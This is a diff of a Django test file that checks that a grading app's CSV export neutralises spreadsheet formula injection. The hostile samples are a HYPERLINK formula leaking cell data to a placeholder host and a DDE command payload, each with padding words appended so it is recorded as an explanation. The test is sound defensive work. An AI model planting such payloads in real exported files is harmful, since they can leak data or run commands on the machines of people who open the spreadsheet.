@@ -9,8 +9,10 @@ from django.urls import reverse
 
 from grading import services
 
-HOSTILE = ['=HYPERLINK("http://example.invalid/?leak="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)",
-           "\tx", "\r=1"]
+# Each is followed by enough words to be recorded as an explanation (MIN_EXPLANATION_WORDS).
+_WORDS = " because KV reads grow with batch and context"
+HOSTILE = [s + _WORDS for s in ['=HYPERLINK("http://example.invalid/?leak="&A1,"click")', "+1+cmd|' /C calc'!A0",
+                                 "-2+3", "@SUM(A1:A2)", "\tx", "\r=1"]]
 
 
 def _explain(user, version, answer):
@@ -33,8 +35,8 @@ def test_a_formula_typed_as_an_answer_is_text_in_the_csv(client, login_as, candi
 
 
 def test_ordinary_cells_are_left_alone(client, login_as, candidate, decode_question):
-    _explain(candidate, decode_question, "KV reads add bytes = more time")
+    _explain(candidate, decode_question, "KV reads add bytes per step = more time per token")
     login_as(candidate)
     [row] = _csv_rows(client)
-    assert row["answer"] == "KV reads add bytes = more time"
+    assert row["answer"] == "KV reads add bytes per step = more time per token"
     assert row["question"] == "test-decode-floor" and row["part"] == "why"
